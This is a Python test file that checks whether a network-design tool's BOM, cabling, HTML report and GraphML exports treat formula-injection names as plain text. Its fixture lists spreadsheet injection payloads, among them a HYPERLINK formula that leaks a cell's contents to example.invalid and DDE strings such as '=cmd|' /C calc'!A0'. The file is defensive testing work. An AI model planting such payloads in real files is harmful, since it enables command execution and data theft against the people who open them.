"""Formula injection (CWE-1236): names starting with = + - @ (or hidden behind tab / CR) are
text in every spreadsheet and CSV the app writes, never formulas."""

from __future__ import annotations

import csv
import re

import openpyxl
import pytest

from designer.core.generators import generate, params_from_dict
from designer.core.writers import jobs
from designer.core.writers.safety import csv_text, is_formula_like

EVIL = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
]
# What the exporter's own formulas are made of: cell references (maybe on another sheet), numbers,
# arithmetic, parentheses and SUM over ranges; never text, so never a name.
_TOKEN = r"(?:(?:[A-Za-z]+!)?[A-Z]{1,3}\d+(?::[A-Z]{1,3}\d+)?|\d+(?:\.\d+)?|SUM|[-+*/(),])"
OUR_FORMULA = re.compile(rf"^=(?:{_TOKEN})+$")


@pytest.fixture(scope="module")
def evil(catalog):
    project = generate(params_from_dict("rail", {"sus": 1, "servers_per_su": 8}))
    devices = list(project.fabric.devices)
    for i, name in enumerate(EVIL):
        devices[i] = devices[i].model_copy(update={"name": name})
    switch = next(i for i, d in enumerate(devices) if d.role.is_switch)
    devices[switch] = devices[switch].model_copy(update={"name": "=1+1 (leaf)"})
    project = project.with_fabric(project.fabric.with_devices(tuple(devices)))
    project = project.model_copy(update={"name": "=cmd|' /C calc'!A0", "notes": "@notes"})
    return project, project.catalog(catalog)


@pytest.mark.parametrize(("fmt", "suffix"), [("bom", ".xlsx"), ("cabling", ".xlsx")])
def test_xlsx_holds_names_as_text(evil, tmp_path, fmt, suffix):
    project, cat = evil
    path = tmp_path / f"out{suffix}"
    getattr(jobs, f"export_{fmt}")(project, cat, path)
    wb = openpyxl.load_workbook(path)
    seen_evil = 0
    for ws in wb:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    assert OUR_FORMULA.match(str(c.value)), f"{ws.title}!{c.coordinate}: {c.value}"
                elif isinstance(c.value, str) and is_formula_like(c.value):
                    assert c.data_type == "s" and c.quotePrefix, f"{ws.title}!{c.coordinate}"
                    seen_evil += 1
    assert seen_evil > 0  # the names were written, as text
    if fmt == "cabling":
        names = {c.value for row in wb["Cables"].iter_rows() for c in row}
        assert set(EVIL) <= names  # unchanged, just typed as text


@pytest.mark.parametrize("fmt", ["bom", "cabling"])
def test_csv_fields_never_start_a_formula(evil, tmp_path, fmt):
    project, cat = evil
    path = tmp_path / "out.csv"
    getattr(jobs, f"export_{fmt}")(project, cat, path)
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    fields = [f for r in rows for f in r]
    for f in fields:
        assert not is_formula_like(f), repr(f)
    if fmt == "cabling":
        for name in EVIL:
            assert csv_text(name) in fields  # kept whole, behind its guard
            # and no piece of it starts a formula where a reader splits at ';', '|' or tab
            for sep in (";", "|", "\t"):
                assert not any(is_formula_like(p) for p in csv_text(name).split(sep)[1:])


def test_report_and_graphml_escape_names(evil, tmp_path):
    project, cat = evil
    html = tmp_path / "r.html"
    jobs.export_report_html(project, cat, html)
    text = html.read_text(encoding="utf-8")
    assert "<title>=cmd|&#x27; /C calc&#x27;!A0</title>" in text
    graph = tmp_path / "g.graphml"
    jobs.export_graphml(project, cat, graph)
    import networkx as nx

    g = nx.read_graphml(graph)
    assert {d["label"] for _, d in g.nodes(data=True)} >= {EVIL[0], EVIL[1]}
